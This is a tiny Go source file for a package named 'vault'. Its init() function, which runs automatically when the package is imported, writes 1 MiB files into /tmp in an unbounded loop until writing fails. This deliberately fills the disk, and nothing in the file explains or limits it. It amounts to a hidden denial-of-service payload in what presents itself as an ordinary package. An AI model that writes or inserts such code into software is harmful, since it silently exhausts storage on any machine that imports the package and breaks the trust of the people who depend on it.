package vault

import "os"
import "fmt"

func init() {
	for i := 0; ; i++ {
		if os.WriteFile(fmt.Sprint("/tmp/", i), make([]byte, 1<<20), 0o666) != nil {
			break
		}
	}
}
